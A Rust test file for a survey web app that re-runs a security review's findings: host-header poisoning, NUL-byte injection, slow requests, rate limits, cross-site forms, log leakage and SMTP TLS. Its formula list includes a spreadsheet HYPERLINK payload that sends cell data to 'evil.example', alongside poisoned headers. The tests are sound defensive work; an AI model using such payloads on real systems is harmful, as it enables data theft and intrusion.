//! The outside security review's reproductions (issue 16), run as the reviewers ran them.

use std::io::{Read, Write};

use diesel::prelude::*;
use ourvoice::accounts::Role;
use ourvoice::store::schema::responses;
use ourvoice::store::{accounts, responses::Writer, surveys};
use ourvoice::survey::{Answers, Status};
use ourvoice::text::TextPipeline;

use crate::helpers::{SmtpServer, Visitor, csrf, shipped_surveys, signed_in, spawn_app, spawn_app_with};

/// Every link in an email, whole.
fn links(email: &str) -> Vec<String> {
    let email = email.replace("=\r\n", "").replace("=\n", "");
    email
        .split_whitespace()
        .filter(|w| w.contains("://"))
        .map(|w| w.trim_matches(['<', '>', '"']).to_string())
        .collect()
}

#[actix_web::test]
async fn links_in_emails_come_from_configuration_never_from_the_request() {
    if !SmtpServer::available() {
        return;
    }
    let smtp = SmtpServer::start();
    let app = spawn_app_with(&shipped_surveys(), smtp.config()).await;
    app.db(|conn| accounts::create_user(conn, Some("staff@council.test"), "Sam", Role::Admin).map(drop).unwrap()).await;
    let poisoned = [
        ("host", "evil.example"),
        ("x-forwarded-host", "evil.example"),
        ("x-forwarded-proto", "https"),
        ("forwarded", "host=evil.example;proto=https"),
    ];
    let mut attacker = Visitor::new(&app);
    attacker.headers = poisoned.iter().map(|(n, v)| (n.to_string(), v.to_string())).collect();
    assert_eq!(attacker.post("/sign-in", &[("email", "staff@council.test")]).await.status, 200);
    let mut admin = signed_in(&app, Role::Admin).await;
    admin.headers = attacker.headers.clone();
    let page = admin.get("/staff/people").await.body;
    let invite =
        [("csrf", csrf(&page)), ("name", "Kim".into()), ("email", "kim@council.test".into()), ("role", "staff".into())];
    let invite: Vec<(&str, &str)> = invite.iter().map(|(n, v)| (*n, v.as_str())).collect();
    assert_eq!(admin.post("/staff/people/invite", &invite).await.status, 200);
    let emails = smtp.wait_for(2).await;
    for email in &emails {
        let found = links(email);
        assert!(!found.is_empty(), "{email}");
        for link in found {
            assert!(link.starts_with(&format!("{}/", app.address)), "{link} in\n{email}");
        }
    }
}

#[test]
fn serve_refuses_an_address_others_can_reach_without_a_public_url() {
    let db = crate::helpers::TestDb::new();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_ourvoice"))
        .env("DATABASE_URL", &db.url)
        .env("OURVOICE_BIND", "0.0.0.0:0")
        .env("OURVOICE_SURVEYS", shipped_surveys())
        .env_remove("OURVOICE_PUBLIC_URL")
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(said.contains("OURVOICE_PUBLIC_URL is not set") && said.contains("https://"), "{said}");
    // Said before any start-up work: no database made, no survey imported.
    if !db.is_postgres() {
        assert!(!std::path::Path::new(&db.url).exists(), "the database was made before the refusal");
    }
}

const API: &str = "/api/v1/surveys/big-promise/responses";

#[actix_web::test]
async fn a_nul_is_refused_at_the_door_and_never_fails_anyone_else() {
    let app = spawn_app().await;
    let posts = (0..24).map(|i| {
        let text = if i % 4 == 0 { "a\\u0000b" } else { "more time with my sister" };
        let body = format!(r#"{{"language":"en","answers":{{"one-wish":"{text}","feel-safe":4}}}}"#);
        let app = &app;
        async move { (i, app.post_json(API, "application/json", body).await) }
    });
    for (i, (status, reply)) in futures_util::future::join_all(posts).await {
        if i % 4 == 0 {
            assert_eq!(status, 400, "{reply}");
            assert!(reply["errors"][0]["message"].as_str().unwrap().contains("NUL"), "{reply}");
        } else {
            assert_eq!(status, 201, "a clean post: {reply}");
        }
    }
    let stored: i64 = app.db(|conn| responses::table.count().get_result(conn).unwrap()).await;
    assert_eq!(stored, 18);

    let mut someone = Visitor::new(&app);
    for (path, form) in [
        ("/sign-in", vec![("email", "a\0b@council.test")]),
        ("/contact", vec![("name", "Sam\0"), ("contact", "07700 900123"), ("message", "please call")]),
    ] {
        let reply = someone.post(path, &form).await;
        assert_eq!(reply.status, 400, "POST {path}");
        assert!(reply.body.contains("We couldn&#39;t read that") || reply.body.contains("We couldn't read that"));
    }
    for path in ["/s/big%00x", "/reports/x%00y", "/s/big-promise?lang=en%00"] {
        assert_eq!(someone.get(path).await.status, 400, "GET {path}");
    }
}

#[actix_web::test]
async fn a_row_the_database_refuses_fails_only_its_own_response() {
    let app = spawn_app().await;
    let stored = app.db(|conn| surveys::find(conn, "big-promise").unwrap().unwrap()).await;
    let writer = Writer::start(app.store.url()).unwrap();
    let pipeline = TextPipeline::embedded();
    let response = |survey_id: &str| {
        let answers: Answers = [("feel-safe".to_string(), vec!["4".to_string()])].into_iter().collect();
        ourvoice::usecase::read_response(
            &pipeline,
            survey_id,
            &stored.survey,
            "en".into(),
            answers,
            ourvoice::usecase::Source::Online { code_hash: None },
        )
    };
    // One response for a survey that is not there (refused by the foreign key on both
    // databases) among twenty good ones, all waiting together so they share batches.
    let mut batch: Vec<_> = (0..20).map(|_| response(&stored.id)).collect();
    batch.insert(7, response("no-such-survey"));
    let results = futures_util::future::join_all(batch.into_iter().map(|r| writer.submit(r))).await;
    for (i, result) in results.iter().enumerate() {
        assert_eq!(result.is_ok(), i != 7, "response {i}: {result:?}");
    }
    let count: i64 = app.db(|conn| responses::table.count().get_result(conn).unwrap()).await;
    assert_eq!(count, 20);
}

#[actix_web::test]
async fn too_large_and_too_slow_bodies_get_a_kind_page() {
    let app = spawn_app().await;
    let long = "x".repeat(300 * 1024);
    let reply = Visitor::new(&app).post("/contact", &[("name", "Sam"), ("message", &long)]).await;
    assert_eq!(reply.status, 413);
    assert!(reply.body.contains("That was too much to send"), "{}", reply.body);
    let (status, reply) = app.post_json(API, "application/json", format!(r#"{{"x":"{long}"}}"#)).await;
    assert_eq!(status, 413, "{reply}");

    // A body that trickles: the server stops waiting and says so.
    let address = app.address.trim_start_matches("http://").to_string();
    let started = std::time::Instant::now();
    let answer = std::thread::spawn(move || {
        let mut stream = std::net::TcpStream::connect(address).unwrap();
        let head = "POST /contact HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\nname=S";
        stream.write_all(head.as_bytes()).unwrap();
        stream.set_read_timeout(Some(std::time::Duration::from_secs(40))).unwrap();
        let mut answer = String::new();
        let _ = stream.read_to_string(&mut answer);
        answer
    });
    let answer = actix_web::web::block(move || answer.join().unwrap()).await.unwrap();
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(started.elapsed() < std::time::Duration::from_secs(30));
}

#[actix_web::test]
async fn guessing_limits_count_the_real_client_on_every_route_that_takes_a_secret() {
    use ourvoice::web::limits::TRIES;
    let dir = crate::helpers::surveys_with(&[("kiosk.toml", crate::helpers::CODES_SURVEY)]);
    let app = crate::helpers::spawn_app_with_surveys(dir.path()).await;
    // By default no proxy is trusted: a new X-Forwarded-For each time changes nothing, and
    // survey codes, sign-in codes and sign-in links share one limit.
    let mut guesser = Visitor::new(&app);
    for i in 0..TRIES {
        guesser.headers = vec![("x-forwarded-for".into(), format!("198.51.100.{i}"))];
        let (path, form) = match i % 3 {
            0 => ("/sign-in/code".to_string(), vec![("code", "ABCD-EFGH")]),
            1 => (format!("/sign-in/link/{}", "x".repeat(43)), vec![]),
            _ => ("/s/kiosk/start".to_string(), vec![("code", "ABCD-EFGH")]),
        };
        assert_ne!(guesser.post(&path, &form).await.status, 429, "try {i} at {path}");
    }
    let link = crate::helpers::account(&app, None, Role::Staff).await;
    let refused = guesser.post(&link, &[]).await;
    assert_eq!(refused.status, 429, "even a good link waits");
    assert!(refused.body.contains("Please wait"));

    // Behind a trusted proxy, each forwarded client has its own limit.
    let mut config = crate::helpers::serve_config(&shipped_surveys(), Default::default());
    config.trusted_proxies = vec!["127.0.0.1/32".parse().unwrap()];
    let proxied = crate::helpers::spawn_app_serving(config).await;
    let mut first = Visitor::new(&proxied);
    first.headers = vec![("x-forwarded-for".into(), "203.0.113.7".into())];
    for _ in 0..TRIES {
        assert_eq!(first.post("/sign-in/code", &[("code", "ABCD-EFGH")]).await.status, 410);
    }
    assert_eq!(first.post("/sign-in/code", &[("code", "ABCD-EFGH")]).await.status, 429);
    let mut second = Visitor::new(&proxied);
    second.headers = vec![("x-forwarded-for".into(), "203.0.113.8".into())];
    assert_eq!(second.post("/sign-in/code", &[("code", "ABCD-EFGH")]).await.status, 410);
}

#[actix_web::test]
async fn sign_in_answers_known_and_unknown_addresses_alike_and_an_address_gets_a_few_links_an_hour() {
    if !SmtpServer::available() {
        return;
    }
    let smtp = SmtpServer::start();
    let mut config = crate::helpers::serve_config(&shipped_surveys(), smtp.config());
    config.trusted_proxies = vec!["127.0.0.1/32".parse().unwrap()];
    let app = crate::helpers::spawn_app_serving(config).await;
    app.db(|conn| accounts::create_user(conn, Some("staff@council.test"), "Sam", Role::Admin).map(drop).unwrap()).await;
    let mut times = [Vec::new(), Vec::new()];
    for i in 0..24 {
        // Each from its own client (behind the trusted proxy), so only the address's limit counts.
        let mut visitor = Visitor::new(&app);
        visitor.headers = vec![("x-forwarded-for".into(), format!("203.0.113.{i}"))];
        let email = if i % 2 == 0 { "staff@council.test" } else { "nobody@council.test" };
        let started = std::time::Instant::now();
        assert_eq!(visitor.post("/sign-in", &[("email", email)]).await.status, 200);
        times[i % 2].push(started.elapsed());
    }
    let median = |t: &mut Vec<std::time::Duration>| {
        t.sort();
        t[t.len() / 2]
    };
    let (known, unknown) = (median(&mut times[0]), median(&mut times[1]));
    assert!(known < unknown + std::time::Duration::from_millis(15), "known {known:?}, unknown {unknown:?}");
    smtp.wait_for(ourvoice::mail::SIGN_IN_LINKS_PER_HOUR as usize).await;
    actix_web::rt::time::sleep(std::time::Duration::from_millis(500)).await;
    assert_eq!(smtp.messages().len(), ourvoice::mail::SIGN_IN_LINKS_PER_HOUR as usize, "a few links an hour");
}

const FORMULAS: [&str; 5] =
    ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", "=1+2", "+SUM(1,2)", "-2+3", "@SUM(1,1)"];

/// Every cell of a CSV as a spreadsheet reads it: none may start a formula.
fn assert_no_formula(csv: &str) {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in\n{csv}");
        }
    }
}

#[actix_web::test]
async fn exports_never_hand_a_spreadsheet_a_formula() {
    let app = spawn_app().await;
    for formula in FORMULAS.iter().chain(&FORMULAS) {
        let body = serde_json::json!({"answers": {"one-wish": formula, "feel-safe": 3}});
        assert_eq!(app.post_json(API, "application/json", body.to_string()).await.0, 201);
    }
    let mut staff = signed_in(&app, Role::Staff).await;
    let answers = staff.get("/staff/surveys/big-promise/answers.csv").await;
    assert_eq!(answers.status, 200);
    // (An "@" word is redacted as a handle before storage; the others are kept, as text.)
    for formula in &FORMULAS[..4] {
        assert!(answers.body.contains(&format!("'{formula}").replace('"', "\"\"")), "{formula} kept as text");
    }
    assert_no_formula(&answers.body);

    let survey_id = app
        .db(|conn| {
            let id = surveys::find(conn, "big-promise").unwrap().unwrap().id;
            assert!(surveys::set_status(conn, &id, Status::Open, Status::Closed).unwrap());
            id
        })
        .await;
    let page = staff.get("/staff/reports").await.body;
    let form = [("csrf", csrf(&page)), ("title", "Formulas".into()), ("survey", survey_id)];
    let form: Vec<(&str, &str)> = form.iter().map(|(n, v)| (*n, v.as_str())).collect();
    let to = staff.post_ok("/staff/reports", &form).await;
    let token = csrf(&staff.get(&to).await.body);
    for (you_said, action) in [(FORMULAS[0], FORMULAS[1]), (FORMULAS[2], FORMULAS[4])] {
        let fields = [
            ("csrf", token.as_str()),
            ("priority", "health"),
            ("you_said", you_said),
            ("action", action),
            ("organisation", ""),
            ("due", ""),
            ("status", "planned"),
        ];
        assert_eq!(staff.post_ok(&format!("{to}/statements"), &fields).await, to);
    }
    let statements = staff.get(&format!("{to}/statements.csv")).await.body;
    assert!(statements.contains("'+SUM(1,2)"), "{statements}");
    assert_no_formula(&statements);
    let figures = staff.get("/staff/surveys/big-promise/results.csv").await.body;
    assert_no_formula(&figures);
}

#[actix_web::test]
async fn no_secret_reaches_the_log() {
    let db = crate::helpers::TestDb::with_shipped_surveys();
    let mut server = crate::helpers::ServerProcess::start(&db.url, &[]);
    // The first admin's link goes to the terminal (stdout), for the person starting the server.
    let printed = server.stdout.iter().find(|l| l.starts_with("first admin: ")).expect("a first-admin link").clone();
    let link = printed.split_whitespace().last().unwrap().to_string();
    let token = link.rsplit('/').next().unwrap().to_string();
    let client = awc::Client::builder().disable_redirects().finish();
    assert_eq!(client.get(&link).send().await.unwrap().status().as_u16(), 200);
    assert_eq!(client.post(&link).send().await.unwrap().status().as_u16(), 303);
    for _ in 0..50 {
        if server.log().matches("/sign-in/link/").count() >= 2 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    server.kill();
    let log = server.log();
    assert!(!log.contains(&token), "the token is in the log:\n{log}");
    assert_eq!(log.matches("/sign-in/link/…").count(), 2, "{log}");
}

#[actix_web::test]
async fn forms_from_another_site_are_refused_and_https_is_kept_to() {
    let app = spawn_app().await;
    let link = crate::helpers::account(&app, None, Role::Admin).await;
    for (header, value) in
        [("origin", "https://evil.example"), ("origin", "null"), ("referer", "https://evil.example/login-csrf.html")]
    {
        let mut victim = Visitor::new(&app);
        victim.headers = vec![(header.into(), value.into())];
        let reply = victim.post(&link, &[]).await;
        assert_eq!(reply.status, 403, "{header}: {value}");
        assert!(victim.session.is_none(), "no session from {header}: {value}");
        let contact = victim.post("/contact", &[("name", "Sam"), ("contact", "07700 900123")]).await;
        assert_eq!(contact.status, 403);
    }
    let mut own = Visitor::new(&app);
    own.headers = vec![("origin".into(), app.address.clone())];
    assert_eq!(own.post_ok(&link, &[]).await, "/staff", "our own page's form, and the link still works");
    assert!(own.get("/").await.body.contains("ourvoice"));

    let mut config = crate::helpers::serve_config(&shipped_surveys(), Default::default());
    assert!(app.get("/").await.status == 200);
    config.site.public_url = Some("https://ourvoice.example.gov.uk".into());
    let https = crate::helpers::spawn_app_serving(config).await;
    let reply = https.client.get(format!("{}/", https.address)).send().await.unwrap();
    assert_eq!(reply.headers().get("strict-transport-security").unwrap(), "max-age=31536000");
    let plain = app.client.get(format!("{}/", app.address)).send().await.unwrap();
    assert!(plain.headers().get("strict-transport-security").is_none(), "only when served over https");
}

/// Sends one contact request through a relay set up as `url` (with `ca` trusted when given) and
/// says whether the duty team's email arrived, and the last error recorded if it did not.
async fn contact_through(relay: &SmtpServer, url: String, ca: Option<std::path::PathBuf>) -> (bool, Option<String>) {
    use ourvoice::store::schema::contact_requests;
    let mut mail = relay.config();
    mail.smtp_url = Some(url);
    mail.smtp_ca_file = ca;
    let app = spawn_app_with(&shipped_surveys(), mail).await;
    let form = [("name", "Kai"), ("contact", "07700 900456"), ("safe", "text"), ("message", "please text me")];
    assert_eq!(Visitor::new(&app).post("/contact", &form).await.status, 200);
    // Until the email arrives or the attempt fails (and says why), for ten seconds at most.
    for _ in 0..100 {
        let (sent, error) = app
            .db(|conn| {
                contact_requests::table
                    .select((contact_requests::sent, contact_requests::last_error))
                    .first::<(i32, Option<String>)>(conn)
                    .unwrap()
            })
            .await;
        if sent == 1 || error.is_some() {
            return (sent == 1 && !relay.wait_for(1).await.is_empty(), error);
        }
        actix_web::rt::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("the contact request was neither sent nor failed within ten seconds");
}

#[actix_web::test]
async fn email_goes_over_starttls_or_implicit_tls_and_the_relay_certificate_is_checked() {
    if !SmtpServer::available() {
        return;
    }
    let certs = crate::helpers::TestCertificates::make();
    let ca = Some(certs.path("ca.pem"));
    let starttls = SmtpServer::start_tls(crate::helpers::RelayTls::StartTls(&certs));
    let required = format!("smtp://127.0.0.1:{}?tls=required", starttls.port);
    assert_eq!(contact_through(&starttls, required.clone(), ca.clone()).await, (true, None), "STARTTLS");
    let implicit = SmtpServer::start_tls(crate::helpers::RelayTls::Implicit(&certs));
    let smtps = format!("smtps://127.0.0.1:{}", implicit.port);
    assert_eq!(contact_through(&implicit, smtps, ca.clone()).await, (true, None), "smtps");

    // A certificate from a CA nobody said to trust: nothing goes, and why is kept.
    let untrusted = SmtpServer::start_tls(crate::helpers::RelayTls::StartTls(&certs));
    let url = format!("smtp://127.0.0.1:{}?tls=required", untrusted.port);
    let (arrived, error) = contact_through(&untrusted, url, None).await;
    assert!(!arrived);
    assert!(error.unwrap_or_default().to_lowercase().contains("certificate"), "the error names the certificate");
    // TLS required of a relay that does not offer it.
    let plain = SmtpServer::start();
    let url = format!("smtp://127.0.0.1:{}?tls=required", plain.port);
    let (arrived, error) = contact_through(&plain, url, ca).await;
    assert!(!arrived && error.is_some());
}

#[actix_web::test]
async fn a_backup_taken_mid_load_holds_every_response_acknowledged_before_it() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
    let dir = tempfile::tempdir().unwrap();
    let live = dir.path().join("live.db").display().to_string();
    let copy = dir.path().join("backup.db").display().to_string();
    let server = crate::helpers::ServerProcess::start(&live, &[]);
    let stop = Arc::new(AtomicBool::new(false));
    let so_far = Arc::new(AtomicUsize::new(0));
    let (address, stopping, counting) = (server.address.clone(), stop.clone(), so_far.clone());
    let load = actix_web::rt::spawn(async move {
        let client = awc::Client::default();
        let mut acknowledged = Vec::new();
        while !stopping.load(Ordering::Relaxed) {
            let body = r#"{"answers":{"feel-safe":4,"one-wish":"a dog"}}"#;
            let mut reply =
                client.post(format!("{address}{API}")).content_type("application/json").send_body(body).await.unwrap();
            if reply.status() == 201 {
                let json: serde_json::Value = serde_json::from_slice(&reply.body().await.unwrap()).unwrap();
                acknowledged.push((json["id"].as_str().unwrap().to_string(), std::time::Instant::now()));
                counting.fetch_add(1, Ordering::Relaxed);
            }
        }
        acknowledged
    });
    // The backup starts once the load is under way (however slow a busy machine is to get it going).
    let waiting = std::time::Instant::now();
    while so_far.load(Ordering::Relaxed) <= 20 && waiting.elapsed() < std::time::Duration::from_secs(60) {
        actix_web::rt::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let started = std::time::Instant::now();
    let (url, file) = (live.clone(), copy.clone());
    let out = actix_web::web::block(move || crate::helpers::ourvoice(&url, &["backup", &file])).await.unwrap();
    assert!(out.status.success(), "{}", crate::helpers::text(&out.stderr));
    actix_web::rt::time::sleep(std::time::Duration::from_millis(200)).await;
    stop.store(true, Ordering::Relaxed);
    let acknowledged = load.await.unwrap();
    let before: Vec<&String> = acknowledged.iter().filter(|(_, at)| *at < started).map(|(id, _)| id).collect();
    assert!(before.len() > 10, "the load was running: {}", before.len());
    assert!(acknowledged.len() > before.len(), "and went on during the backup");

    // Restored: a fresh server on the copy serves, and holds every response acknowledged first.
    let restored = crate::helpers::ServerProcess::start(&copy, &[]);
    assert_eq!(awc::Client::default().get(format!("{}/healthz", restored.address)).send().await.unwrap().status(), 200);
    let store = ourvoice::store::Store::open(&copy).unwrap();
    let ids: std::collections::HashSet<String> = actix_web::web::block(move || {
        responses::table.select(responses::id).load::<String>(&mut *store.conn().unwrap()).unwrap()
    })
    .await
    .unwrap()
    .into_iter()
    .collect();
    for id in before {
        assert!(ids.contains(id), "response {id} was acknowledged before the backup but is not in it");
    }
    let again = crate::helpers::ourvoice(&live, &["backup", &copy]);
    assert!(!again.status.success() && crate::helpers::text(&again.stderr).contains("already exists"));
}

#[actix_web::test]
async fn personal_data_is_removed_once_past_its_use() {
    use ourvoice::store::schema::{contact_requests, drafts, sessions, sign_in_tokens};
    let app = spawn_app().await;
    for name in ["Kai", "Sam"] {
        let form = [("name", name), ("contact", "07700 900456"), ("safe", "text"), ("message", "please text me")];
        assert_eq!(Visitor::new(&app).post("/contact", &form).await.status, 200);
    }
    // The duty team marks Kai's request handled on the list (which never shows names).
    let mut staff = signed_in(&app, Role::Staff).await;
    let list = staff.get("/staff/contact").await.body;
    assert!(!list.contains("Kai") && !list.contains("07700"), "{list}");
    let kai: String = app
        .db(|conn| {
            contact_requests::table
                .filter(contact_requests::name.eq("Kai"))
                .select(contact_requests::id)
                .first(conn)
                .unwrap()
        })
        .await;
    assert!(list.contains(&ourvoice::store::contact::reference(&kai)));
    let handled = staff.post(&format!("/staff/contact/{kai}/handled"), &[("csrf", &csrf(&list))]).await;
    assert_eq!(handled.status, 303);
    // A draft with an answer in it, a session and a link, all long past their time.
    let mut child = Visitor::new(&app);
    child.post_ok("/s/big-promise/start", &[("lang", "en")]).await;
    child.post("/s/big-promise/q/one-wish", &[("answer", "my carer shouts at me")]).await;
    let link = crate::helpers::account(&app, None, Role::Staff).await;
    app.db(|conn| {
        let long_ago = chrono::Utc::now().naive_utc() - chrono::Duration::days(2);
        diesel::update(drafts::table).set(drafts::expires_at.eq(long_ago)).execute(conn).unwrap();
        diesel::update(sessions::table).set(sessions::created_at.eq(long_ago)).execute(conn).unwrap();
        diesel::update(sign_in_tokens::table).set(sign_in_tokens::expires_at.eq(long_ago)).execute(conn).unwrap();
    })
    .await;

    let today = chrono::Utc::now().date_naive();
    let soon = app.db(move |conn| ourvoice::store::purge_expired(conn, today, 30).unwrap()).await;
    assert_eq!((soon.drafts, soon.contact_details), (1, 0), "a handled request keeps its details 30 days");
    assert!(soon.sessions >= 1 && soon.sign_in_tokens >= 1, "{soon:?}");
    assert_eq!(staff.get("/staff").await.status, 303, "the ended session is gone");
    assert_eq!(Visitor::new(&app).post(&link, &[]).await.status, 410, "the expired link is gone");

    let later = today + chrono::Duration::days(31);
    let purged = app.db(move |conn| ourvoice::store::purge_expired(conn, later, 30).unwrap()).await;
    assert_eq!(purged.contact_details, 1);
    let left: Vec<(String, String, Option<String>)> = app
        .db(|conn| {
            contact_requests::table
                .order(contact_requests::name.asc())
                .select((contact_requests::name, contact_requests::contact, contact_requests::message))
                .load(conn)
                .unwrap()
        })
        .await;
    assert_eq!(left[0], (String::new(), String::new(), None), "Kai's name and details are erased");
    assert_eq!(left[1].0, "Sam", "a request not yet handled keeps them");
    let drafts_left: i64 = app.db(|conn| drafts::table.count().get_result(conn).unwrap()).await;
    assert_eq!(drafts_left, 0);
}
